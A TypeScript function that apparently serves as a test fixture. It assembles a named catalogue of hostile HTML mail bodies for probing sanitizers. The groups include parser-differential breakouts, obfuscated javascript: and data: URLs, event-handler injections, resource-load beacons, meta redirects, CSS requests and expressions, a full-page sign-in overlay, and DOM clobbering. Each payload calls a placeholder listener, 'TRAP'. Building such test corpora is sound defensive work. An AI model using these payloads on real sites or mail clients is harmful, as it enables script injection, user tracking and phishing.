/**
 * A stranger's HTML by what it is after. `TRAP` is the address of a listener, with a word behind it that names the attempt; what runs
 * asks it for something, opens a dialog, or marks the page. Each is the whole body of a mail.
 */
export function htmlAttacks(): Readonly<Record<string, string>> {
  const attacks: Record<string, string> = {};
  const add = (name: string, ...bodies: readonly string[]) => {
    for (const [number, body] of bodies.entries()) attacks[`${name} ${number + 1}`] = body;
  };
  const run = "fetch('TRAP/run');alert(1)";
  const text = (markup: string) => markup.replaceAll("<", "&lt;").replaceAll(">", "&gt;");
  const hint = `<link rel=preconnect href="TRAP"><link rel=prefetch href="TRAP/hint"><img src="TRAP/hint.png" onerror="${run}">`;

  // Where two parsers differ in where raw text ends, what one takes for text is markup to the other.
  add(
    "the end of style",
    ...["</style/>", "</style\f>", "</STYLE\tx>", "</style x=y>", "</sty\0le>", "</style", "</style <!--"].map(
      (end) => `<style>p{}${end}${hint}</style>`,
    ),
    `<style><!--</style>${hint}--></style>`,
    `<style>/*<![CDATA[*/</style>${hint}`,
    `<style title="</style>${hint}">p{}</style>`,
    `<svg><style><!--</style>${hint}--></style></svg>`,
    ...["svg", "math", "svg><desc", "math><mtext", "SVG><a"].map(
      (around) => `<${around}><style>${text(`</style>${hint}`)}`,
    ),
    `<svg><style><style></style>${text(`<meta http-equiv=refresh content="0;url=TRAP/r">${hint}`)}</style></svg>`,
    `<svg></svg><style>${text(`</style>${hint}`)}</style><math/><style>${text(`</style>${hint}`)}</style>`,
    `<style><style></style>${hint}</style>`,
  );
  for (const tag of ["title", "textarea", "xmp", "noembed", "noframes", "noscript", "iframe", "plaintext", "template"])
    add(
      `raw text, ${tag}`,
      `<${tag}></${tag}/>${hint}`,
      `<${tag}><p title="</${tag}>${hint.replaceAll('"', "'")}">x</p></${tag}>`,
      `<${tag}><!--</${tag}>${hint}-->`,
      `<${tag}>&lt;/${tag}&gt;&lt;img src=x onerror=${run}&gt;</${tag}>`,
    );
  add(
    "comments",
    `<!-->${hint}-->`,
    `<!--->${hint}-->`,
    `<!-- --!>${hint}-->`,
    `<!-- <!-- -->${hint}-->`,
    `<!${hint}>`,
    `<?xml ${hint}?>`,
    `<![CDATA[${hint}]]>`,
    `<!--[if !IE]>-->${hint}<!--<![endif]-->`,
    `</ ${hint}>`,
    `<%${hint}%>`,
  );
  add(
    "other namespaces",
    `<svg></p><style><a id="</style>${hint.replaceAll('"', "'")}">`,
    `<svg><foreignObject><p><style><!--</style>${hint}`,
    `<math><mi><table><mglyph><style><![CDATA[</style>${hint}]]></style></mglyph></table></mi></math>`,
    `<math><annotation-xml encoding="text/html"><style>${hint}</style></annotation-xml></math>`,
    `<form><math><mtext></form><form><mglyph><style></math>${hint}`,
    `<svg><desc><table><a><svg><style><title></style>${hint}</title></style></svg></a></table></desc></svg>`,
    `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='TRAP/use.png'/></svg>#x"/></svg>`,
    `<svg><image xlink:href="TRAP/svg.png"/><feImage href="TRAP/fe.png"/><a><animate attributeName=href values="javascript:${run}"/><text y=9>x</text></a></svg>`,
    `<svg><set attributeName=onmouseover to="${run}"/><animate onbegin="${run}" attributeName=x dur=1s /></svg>`,
    `<math href="javascript:${run}">x</math><maction actiontype="statusline#TRAP/status" xlink:href="javascript:${run}">x</maction>`,
  );
  add(
    "addresses that run",
    ...[
      "javascript:",
      "JaVaScRiPt:",
      "java\tscript:",
      "java&#10;script:",
      "&#x6A;avascript&colon;",
      "\u0001javascript:",
      "javascript&NewLine;:",
      "vbscript:",
      "data:text/html,<script>",
      "data:text/html;base64,PHNjcmlwdD4=",
      "blob:TRAP/",
      "view-source:javascript:",
      "feed:javascript:",
      "jar:javascript:",
      "filesystem:TRAP/",
      "\\\\javascript:",
      "livescript:",
    ].map(
      (scheme) =>
        `<a href="${scheme}${run}">x</a><img src="${scheme}${run}"><table background="${scheme}${run}"><td>x</table>`,
    ),
  );
  add(
    "handlers",
    ...[
      `<p style="animation:x 1s" onanimationstart="${run}">x</p><style>@keyframes x{}</style>`,
      `<div onpointerrawupdate="${run}" onbeforetoggle="${run}" popover>x</div>`,
      `<p/onscrollend=${run}/ onfocus=${run} tabindex=0 autofocus>x</p>`,
      `<p title="a"onclick="${run}"b>x</p>`,
      `<p title='"><img src=x onerror=${run}>'>x</p>`,
      "<p title=`><img/src=x onerror=alert(1)>`>x</p>",
      `<p class="x" class="&quot;><script>${run}</script>">x</p>`,
      `<p on\0click="${run}" \0onload="${run}">x</p>`,
      `<marquee onstart="${run}">x</marquee><input type=image src="TRAP/input.png" onerror="${run}">`,
      `<audio src=x onerror="${run}"></audio><video poster="TRAP/poster.png"><source src="TRAP/v" onerror="${run}"></video>`,
    ],
  );
  add(
    "loads",
    `<img srcset="TRAP/a.png 1x, TRAP/b.png 2x" sizes="100vw" src="">`,
    `<img src="TRAP/lazy.png" loading=lazy><img src="//TRAP"><img lowsrc="TRAP/low.png" dynsrc="TRAP/dyn.avi" longdesc="TRAP/long">`,
    `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='TRAP/in.png'/><script>${run}</script></svg>">`,
    `<picture><source srcset="TRAP/source.webp" type=image/webp><img src=x></picture><image src="TRAP/image.png">`,
    `<body background="TRAP/body.png"><tr background="TRAP/tr.png"><td background=" TRAP/td.png">x`,
    `<link rel="dns-prefetch preconnect modulepreload" href="TRAP"><link rel="alternate stylesheet" href="TRAP/alt.css"><link rel=manifest href="TRAP/m.json">`,
    `<script type=speculationrules>{"prefetch":[{"source":"list","urls":["TRAP/speculate"]}]}</script>`,
    `<script type=importmap>{"imports":{"a":"TRAP/map.js"}}</script><script type=module src="TRAP/m.js"></script>`,
    `<html manifest="TRAP/app.cache"><object classid="TRAP/c" codebase="TRAP/cb" archive="TRAP/ar"><param name=src value="TRAP/p"></object>`,
    `<applet code="TRAP/a"></applet><bgsound src="TRAP/b"><layer src="TRAP/l"></layer><xml src="TRAP/x"></xml>`,
    `<a href="TRAP/link" ping="TRAP/ping" attributionsrc="TRAP/attr">x</a><img attributionsrc="TRAP/attr2" src=x>`,
    `<portal src="TRAP/portal"></portal><fencedframe src="TRAP/fenced"></fencedframe><webview src="TRAP/web"></webview>`,
    `<template shadowrootmode=open><style>:host{background:url(TRAP/shadow.png)}</style>${hint}</template>`,
  );
  add(
    "goes elsewhere",
    ...["refresh", "Refresh ", "&#114;efresh"].map(
      (name) => `<meta http-equiv="${name}" content="0; url='TRAP/refresh'">`,
    ),
    `<meta http-equiv=content-security-policy content="report-uri TRAP/csp; default-src 'none'"><meta http-equiv="set-cookie" content="a=b">`,
    `<meta name=referrer content=unsafe-url><meta http-equiv=x-dns-prefetch-control content=on><a href="TRAP/dns">x</a>`,
    `<base href="TRAP/" target=_top><a href="/x">x</a><img src="rel.png">`,
    `<form action="TRAP/form" id=f><input name=a autofocus></form><button form=f formaction="TRAP/fa">x</button><input type=submit formaction="javascript:${run}">`,
    `<iframe name=top src="TRAP/named"></iframe><a target=top href="TRAP/t" id=x>x</a><area href="TRAP/area" shape=default>`,
    `<iframe src="javascript:${run}" sandbox="allow-scripts allow-top-navigation"></iframe><iframe srcdoc="&lt;script&gt;${run}&lt;/script&gt;" credentialless></iframe>`,
  );
  add(
    "style",
    `<style>@import 'TRAP/i.css';@import url("TRAP/j.css") layer(x) supports(display:grid);</style>`,
    `<style>@\\69mport "TRAP/k.css";p{background:u\\72l(TRAP/esc.png)}p{background:\\75\\72\\6c(TRAP/esc2.png)}</style>`,
    `<style>p{background:image-set("TRAP/set.png" 1x);content:url(TRAP/content.png);cursor:url(TRAP/c.cur),auto;mask:url(TRAP/mask.svg#m);filter:url(TRAP/filter.svg#f);offset-path:url(TRAP/o.svg#o)}</style>`,
    `<style>@font-face{font-family:x;src:url(TRAP/f.woff2);unicode-range:U+41}p{font-family:x}@namespace url(TRAP/ns);@document url(TRAP){}</style><p>A</p>`,
    `<style>@property --x{syntax:"<url>";inherits:true;initial-value:url(TRAP/prop.png)}p{--y:url(TRAP/var.png);background:var(--y);list-style-image:var(--x)}</style>`,
    `<style>a[href^="h"]{background:url(TRAP/attr.png)}a:visited{background:url(TRAP/visited.png)}@media (min-width:1px){p{border-image:url(TRAP/media.png) 1}}</style><a href="https://x.example/">x</a>`,
    `<p style="background:url&#40;TRAP/ent.png&#41;;-moz-binding:url(TRAP/xbl#x);behavior:url(TRAP/b.htc);width:expression(${run})">x</p>`,
    `<p style="background:-webkit-cross-fade(url(TRAP/one.png),url(TRAP/two.png),50%);shape-outside:url(TRAP/shape.png);float:left">x</p>`,
    `<style>p::before{content:"</p><script>${run}</script>"}</style><div style="x:</style><script>${run}</script>">x</div>`,
    `<div style="position:fixed;inset:0;z-index:2147483647;background:#fff">Sign in<a href="TRAP/overlay" style="position:fixed;inset:0">x</a></div>`,
  );
  add(
    "clobbers",
    `<a id=location href="TRAP/c"></a><a id=document></a><img name=body><form id=window><input name=location></form><form name=getElementById></form>`,
    `<iframe name=self srcdoc="<a id=top href=TRAP/c>"></iframe><a name=__proto__></a><p id=constructor class=hasOwnProperty>x</p>`,
    `<style>body{display:none}</style><a id=main></a><a id=app></a><meta name=viewport content="width=1">`,
  );
  return attacks;
}
